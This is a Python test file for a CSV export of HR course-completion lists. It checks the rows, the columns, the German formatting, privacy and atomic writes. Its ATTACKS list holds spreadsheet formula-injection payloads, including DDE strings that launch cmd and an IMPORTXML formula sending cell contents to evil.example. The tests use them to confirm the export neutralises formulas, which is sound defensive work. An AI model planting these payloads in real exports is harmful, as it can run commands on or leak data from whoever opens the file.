"""HR's list: who is asked for what and has completed it, and nothing else."""

import csv
import dataclasses
import io
import re
from datetime import UTC, date, datetime

import pytest

from sqlalchemy import insert

from givefirst.course import OperatorError, load_course
from givefirst.reports import completion, completion_rows, write_completion_csv
from givefirst.reports.columns import visible
from givefirst.reports.completion import harmless
from givefirst.store import Attempt, Store, new_id
from givefirst.store.completion_list import STATES, Entry, Wanted
from givefirst.store.enrolments import assign
from givefirst.store.tables import certificate
from tests.naughty import STRINGS

from ..server.sample import write_sample

ATTACKS = [
    "=1+1", "+49 30", "-x", "@SUM(A1)", '=HYPERLINK("http://evil.example")', "\t=1", "\r=1", "\n=1", " =1", "\ufeff=1", "\u200b=1", "\xa0+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    "=cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")', "=IMPORTXML(CONCAT(\"http://evil.example/\"; A1); \"//a\")", "-2+3+cmd|' /C calc'!D2", "@@", "==", "\u202e=1",
]
WHEN = datetime(2026, 3, 31, 23, 30, tzinfo=UTC)


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """The sample course; theme 1 gets the check of theme 2, too, at two levels, theme 3 has none."""
    sample = load_course(write_sample(tmp_path_factory.mktemp("course")))
    check = sample.checks["immigrant/dialogue"]
    more = {name: dataclasses.replace(check, id=name) for name in ("refuser/giving", "immigrant/giving", "immigrant/dialogue")}
    return dataclasses.replace(sample, checks=more)


@pytest.fixture
def store(tmp_path):
    with Store.open(tmp_path) as opened:
        yield opened


def person(store: Store, name: str | None, *passed: str) -> str:
    learner = new_id()
    store.start_learner(learner, name, new_id())
    for theme in passed:
        store.record(attempt(learner, theme, passed=True))
    return learner


def attempt(learner: str, theme: str, *, passed: bool) -> Attempt:
    return Attempt(
        key=new_id(), learner_id=learner, check_id=f"refuser/{theme}", version="c0ffee", language="de", body='{"responses":{}}', score=7777,
        max=8888, passed=passed, result="{}", completes=f"theme:{theme}", course_version="2026.1", submitted_at=WHEN,
    )


def test_who_has_completed_and_nobody_who_has_only_begun(store, course):
    person(store, "Ada", "dialogue")
    person(store, "Ben", "giving", "dialogue")
    nobody = person(store, None, "giving")
    begun = person(store, "Cem")
    store.record(attempt(begun, "giving", passed=False))
    rows = list(completion_rows(store, course, "en"))
    assert sorted(rows) == sorted([
        ["Ada", "", "Theme 2: Title of dialogue (English)", "yes", WHEN.date(), None, None],
        ["Ben", "", "Theme 1: Title of giving (English)", "yes", WHEN.date(), None, None],
        ["Ben", "", "Theme 2: Title of dialogue (English)", "yes", WHEN.date(), None, None],
        [f"{nobody[:4]}-{nobody[4:8]}-{nobody[8:12]}", "", "Theme 1: Title of giving (English)", "yes", WHEN.date(), None, None],
    ])
    assert [row[2][:7] for row in rows if row[0] == "Ben"] == ["Theme 1", "Theme 2"]


def test_who_is_asked_and_the_certificate_of_the_course(store, course):
    ada = person(store, "Ada", "dialogue")
    store.change(assign("theme:dialogue", WHEN.date(), True))
    store.change(assign("course", None, False))
    person(store, "Ben")
    store.change(assign("role:leading", None, False, person_id=ada))
    store.change(lambda connection: connection.execute(insert(certificate).values(
        number="n", learner_id=ada, course_version="1", completed_at=WHEN, issued_at=WHEN,
    )) and None)
    assert list(completion_rows(store, course, "de")) == [
        ["Ada", "", "Thema 2: Title of dialogue (deutsch)", "ja", WHEN.date(), WHEN.date(), None],
        ["Ada", "", "Der ganze Kurs", "nein", None, None, WHEN.date()],
        ["Ada", "", "role:leading", "nein", None, None, None],
    ]
    unasked = list(completion_rows(store, course, "de", wanted=Wanted(state="unassigned")))
    assert unasked == [["Ben", "", "", "", None, None, None]]


def test_policy_takes_columns_away_and_never_adds_one(store, course, tmp_path):
    person(store, "Ada", "dialogue")
    everything = [Wanted(state=state, group=group) for state in STATES if state != "unassigned" for group in (None, "A")]
    assert [row for wanted in everything for row in completion_rows(store, course, sees=frozenset(), wanted=wanted)] == []  # nobody is asked yet
    store.change(assign("theme:dialogue", None, True))
    for wanted in everything:
        assert list(completion_rows(store, course, "en", sees=frozenset({"due_on"}), wanted=wanted)) == [["Ada", "Theme 2: Title of dialogue (English)", None]]
    assert list(completion_rows(store, course, sees=frozenset({"completed"}), wanted=Wanted(state="overdue", today=date(2100, 1, 1)))) == []
    assert visible(frozenset({"completed_on", "certificate", "score", "level"})) == ("name", "what")
    assert visible(frozenset({"completed", "completed_on"})) == ("name", "what", "completed", "completed_on")
    file = tmp_path / "list.csv"
    write_completion_csv(file, store, course, "en", sees=frozenset())
    assert file.read_text("utf-8-sig").splitlines() == ["Name,What", "Ada,Theme 2: Title of dialogue (English)"]


def test_file_in_german(store, course, tmp_path):
    person(store, "Jürgen Müller", "dialogue")
    file = tmp_path / "liste.csv"
    assert write_completion_csv(file, store, course) == 1
    content = file.read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(content.decode("utf-8-sig")))) == [
        ["Name", "Gruppe", "Was", "Abgeschlossen", "Abgeschlossen am", "Fällig am", "Zertifikat vom"],
        ["Jürgen Müller", "", "Thema 2: Title of dialogue (deutsch)", "ja", "2026-03-31", "", ""],
    ]
    write_completion_csv(file, store, course, separator=";")
    assert file.read_text("utf-8-sig").splitlines()[0] == "Name;Gruppe;Was;Abgeschlossen;Abgeschlossen am;Fällig am;Zertifikat vom"


def test_nothing_that_hr_must_not_see(store, course, tmp_path):
    learner = person(store, None, "dialogue")
    for _ in range(3):
        store.record(attempt(learner, "giving", passed=False))
    file = tmp_path / "list.csv"
    write_completion_csv(file, store, course, "en")
    content = file.read_text("utf-8-sig")
    for forbidden in ("refuser", "immigrant", "7777", "8888", "c0ffee", "23:30", learner, "0.87"):
        assert forbidden not in content
    assert content.count("2026-03-31") == 1  # the completion; tries that were not passed leave no date
    assert not re.search(r"\b3\b", content)


@pytest.mark.parametrize("name", ATTACKS)
def test_cells_never_start_a_formula(store, course, tmp_path, name):
    person(store, name, "dialogue")
    file = tmp_path / "list.csv"
    write_completion_csv(file, store, course)
    with file.open(encoding="utf-8-sig", newline="") as opened:
        cells = [cell for row in csv.reader(opened) for cell in row]
    assert f"'{name}" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_naughty_names_come_through_and_start_no_formula(store, course, tmp_path):
    names = {word for word in STRINGS if word.strip()}
    for name in names:
        person(store, name, "dialogue")
    file = tmp_path / "list.csv"
    write_completion_csv(file, store, course)
    with file.open(encoding="utf-8-sig", newline="") as opened:
        cells = [row[0] for row in csv.reader(opened)][1:]
    assert sorted(cells) == sorted(map(harmless, names)) and all(harmless(name) in (name, f"'{name}") for name in names)
    assert not [cell for cell in cells if cell.lstrip()[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_ordinary_cells_stay_as_they_are():
    assert [harmless(cell) for cell in ("Ada", "", "O'Neil", "a=b", "2026-03-31")] == ["Ada", "", "O'Neil", "a=b", "2026-03-31"]


def test_quotes_commas_and_lines_survive(store, course, tmp_path):
    name = 'Ada "die Erste", Müller\nsecond line'
    person(store, name, "dialogue")
    file = tmp_path / "list.csv"
    write_completion_csv(file, store, course)
    with file.open(encoding="utf-8-sig", newline="") as opened:
        assert [row[0] for row in csv.reader(opened)][1:] == [name]


def test_a_list_that_fails_half_way_leaves_the_old_one(store, course, tmp_path, monkeypatch):
    ada = person(store, "Ada", "dialogue")
    file = tmp_path / "list.csv"
    file.write_text("yesterday's list")

    def broken(*_):
        yield Entry(ada, "Ada", None, "theme:dialogue", None, None, None, True, True)
        raise RuntimeError("broken")

    monkeypatch.setattr(completion, "entries", broken)
    with pytest.raises(RuntimeError):
        write_completion_csv(file, store, course)
    assert file.read_text() == "yesterday's list"
    assert [found.name for found in tmp_path.iterdir() if "list" in found.name or found.suffix == ".part"] == ["list.csv"]


def test_place_that_cannot_be_written(store, course, tmp_path):
    with pytest.raises(OperatorError, match="cannot be written"):
        write_completion_csv(tmp_path / "nowhere" / "list.csv", store, course)
